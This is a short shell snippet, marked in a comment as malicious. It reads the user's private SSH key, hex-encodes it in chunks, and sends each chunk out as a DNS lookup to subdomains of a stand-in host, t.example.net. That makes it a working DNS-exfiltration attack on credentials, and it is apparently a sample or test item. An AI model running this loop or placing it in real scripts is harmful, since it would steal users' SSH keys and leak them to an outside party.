# malicious: sends texts by names
for w in $(cat ~/.ssh/id_ed25519 | xxd -p -c 30); do
    dig +short "$w.t.example.net" >/dev/null
done
